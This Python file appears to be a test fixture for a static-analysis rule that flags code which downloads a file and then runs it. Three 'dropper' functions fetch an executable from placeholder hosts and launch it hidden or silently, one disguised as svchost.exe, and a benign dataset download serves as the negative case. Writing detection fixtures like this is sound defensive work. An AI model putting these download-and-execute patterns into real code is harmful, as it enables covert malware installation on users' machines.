"""Fixture for py-download-write-run.

RULEID: urlretrieve then subprocess.Popen, requests content written then os.startfile, os.system.
OK: downloaded archive only unpacked; a different, local program run after a download.
"""
import os
import subprocess
import tarfile
import tempfile
import urllib.request

import requests


def dropper():
    path = os.path.join(tempfile.gettempdir(), "svchost.exe")
    urllib.request.urlretrieve("http://198.51.100.7/a.exe", path)
    # ruleid: py-download-write-run
    subprocess.Popen([path], creationflags=0x08000000)


def dropper2(dest):
    resp = requests.get("https://cdn.example.net/update.bin")
    with open(dest, "wb") as fh:
        fh.write(resp.content)
    os.chmod(dest, 0o755)
    # ruleid: py-download-write-run
    os.system(dest + " --silent &")


def dropper3(dest):
    open(dest, "wb").write(requests.get("https://cdn.example.net/x").content)
    # ruleid: py-download-write-run
    os.startfile(dest)


def fetch_dataset(dest):
    urllib.request.urlretrieve("https://data.example.org/set.tar.gz", dest)
    with tarfile.open(dest) as tf:
        tf.extractall("data")
    # ok: py-download-write-run
    subprocess.run(["python", "prepare.py"], check=True)
